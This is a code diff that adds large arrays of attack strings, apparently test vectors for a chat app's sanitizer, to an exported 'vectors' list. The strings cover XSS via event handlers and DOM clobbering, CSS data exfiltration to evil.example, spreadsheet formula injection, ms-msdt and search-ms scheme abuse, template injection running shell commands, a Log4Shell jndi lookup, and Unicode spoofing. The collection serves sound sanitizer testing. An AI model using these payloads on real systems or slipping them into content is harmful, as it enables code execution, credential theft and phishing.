@@ -180,7 +180,106 @@ const scriptsOfTheWorld = [
   `http://example.com@evil.example/ javascript:${run}`,
 ];
 
+/** Names that the page's own scripts might find instead of what they look for, and more that changes the page. */
+const clobbering = [
+  `<form id=parley><input name=shell><input name=run></form>`,
+  `<img name=body><img id=root><a id=document href="javascript:${run}">`,
+  `<a id=parley href="${away}/clobbered"></a><a id=parley name=query href="x:y">`,
+  `<meta http-equiv=Content-Security-Policy content="script-src * 'unsafe-inline'">`,
+  `<meta http-equiv=Set-Cookie content="pwned=1">`,
+  `<link rel=modulepreload href="${away}/m.js">`,
+  `<link rel=preconnect href="${away}"><link rel=dns-prefetch href="//evil.example">`,
+  `<script nonce="">${run}</script>`,
+  `<script type=importmap>{"imports":{"react":"${away}/r.js"}}</script>`,
+  `<script type=speculationrules>{"prefetch":[{"source":"list","urls":["${away}/s"]}]}</script>`,
+  `<div popover id=p onbeforetoggle=${run}>x</div><button popovertarget=p>press</button>`,
+  `<slot onslotchange=${run}></slot><div><template shadowrootmode=open><script>${run}</script></template></div>`,
+];
+
+const moreHandlers = [
+  `<xss onpointerrawupdate=${run} style="position:fixed;inset:0">x`,
+  `<xss onwheel=${run} onauxclick=${run} style="position:fixed;inset:0">x`,
+  `<xss oncontentvisibilityautostatechange=${run} style="display:block;content-visibility:auto">`,
+  `<xss onsecuritypolicyviolation=${run}><img src="${away}/blocked.png"></xss>`,
+  `<xss tabindex=1 id=x onfocus=${run} autofocus></xss>`,
+  `<style>@keyframes x{}</style><xss style="animation-name:x" onwebkitanimationend=${run}>`,
+  `<xss style="transition:color 1s" ontransitionrun=${run} id=t>x</xss>`,
+  `<video controls><track default kind=captions src="${away}/t.vtt" onerror=${run}></video>`,
+  `<applet code="${away}/x.class" onerror=${run}></applet>`,
+  `<bgsound src="${away}/x.mid"><keygen autofocus onfocus=${run}>`,
+  `<object type="text/x-scriptlet" data="${away}/x.html"></object>`,
+  `<img src=x alt="\" onerror=${run}//">`,
+];
+
+const styles = [
+  `<style>@font-face{font-family:x;src:url("${away}/f.woff2")}*{font-family:x}</style>`,
+  `<style>input[value^="a"]{background:url("${away}/a")}</style>`,
+  `<div style="-moz-binding:url(${away}/x.xml#x);behavior:url(${away}/x.htc)">`,
+  `<div style="position:fixed;inset:0;z-index:99999;background:#fff">Sign in again</div>`,
+  `<style>:root{--surface-1:red}body::before{content:url(${away}/c.png)}</style>`,
+];
+
+/** Writing that some places make into links and pictures, and this one does not. */
+const markup = [
+  `[press](<javascript:${run}>)`,
+  `[press](  javascript:${run} "title")`,
+  `![x](x"onerror="${run})`,
+  `<https://example.com" onclick="${run}>`,
+  `\`\`\`html <script>${run}</script> \`\`\``,
+  `[[javascript:${run}|press]] [url=javascript:${run}]press[/url] [img]${away}/bb.png[/img]`,
+  `<javascript:${run}|press> "press":javascript:${run} {{< script >}}${run}{{< /script >}}`,
+  `=HYPERLINK("${away}","press")`,
+  `=cmd|' /C calc'!A1`,
+  `@SUM(1+1)*cmd|' /C calc'!A0`,
+];
+
+const schemes = [
+  `feed:javascript:${run}`,
+  `jar:${away}/x.zip!/x.html`,
+  `intent://evil.example#Intent;scheme=https;end`,
+  `ms-msdt:/id PCWDiagnostic /skip force`,
+  `search-ms:query=x&crumb=location:\\\\evil.example\\share`,
+  `parley://conversation/../../settings?run=${run}`,
+  `chrome://settings devtools://devtools/bundled/inspector.html about:blank#${run}`,
+  `app://parley/index.html?x=<script>${run}</script>`,
+  `filesystem:${away}/temporary/x.html`,
+  `smb://evil.example/share \\\\evil.example\\share\\x.scf`,
+  `mailto:a@example.com?attach=/etc/passwd&body=<script>${run}</script>`,
+];
+
+const moreTemplates = [
+  `{% import os %}{{ os.system('touch /tmp/pwned') }} #set($x='')$x.class`,
+  `[#assign x="freemarker.template.utility.Execute"?new()]\${x("touch /tmp/pwned")}`,
+  `*{T(java.lang.Runtime).getRuntime().exec('x')} {php}echo 1;{/php}`,
+  `\${jndi:ldap://evil.example/a} %{(#_='multipart')}`,
+  `{count, plural, other {<script>${run}</script>}} {{count, number}} $t(palette:title, {"x": "{{y}}"})`,
+  `\u001b]8;;${away}\u0007press\u001b]8;;\u0007 <b>notify</b> &lt;img src="${away}/n.png"&gt;`,
+  `+ADw-script+AD4-${run}+ADw-/script+AD4- %C0%BCscript%C0%BE`,
+];
+
+const disguises = [
+  `https://аррӏе.com/ https://exаmple.com/`,
+  `https://example.com／login?@evil.example`,
+  `java\u00ADscript:${run}`,
+  `invoice\u202Egpj.exe`,
+  `\u2066\u2067\u2068 never ended <img src=x onerror=${run}>`,
+  `\u2069\u2069\u2069 ended too often <img src=x onerror=${run}>`,
+  `<img\u3000src=x\u3000onerror=${run}>`,
+  `press\u{E0001}\u{E0073}\u{E0063}\u{E0072} tags nobody sees`,
+  `Z\u0351\u036B\u0343a\u0315\u0317l\u034Dg\u0300o\u0334 ${'\u0301\u0323\u0336'.repeat(20)}`.normalize('NFC'),
+  `${'<div>'.repeat(40)}<img src=x onerror=${run}>`,
+  `<a ${'x="1" '.repeat(50)}onmouseover=${run} style="position:fixed;inset:0">`,
+  `${'A'.repeat(400)}"><svg onload=${run}>`,
+];
+
 export const vectors: readonly string[] = [
+  ...clobbering,
+  ...moreHandlers,
+  ...styles,
+  ...markup,
+  ...schemes,
+  ...moreTemplates,
+  ...disguises,
   ...scripts,
   ...handlers,
   ...addresses,
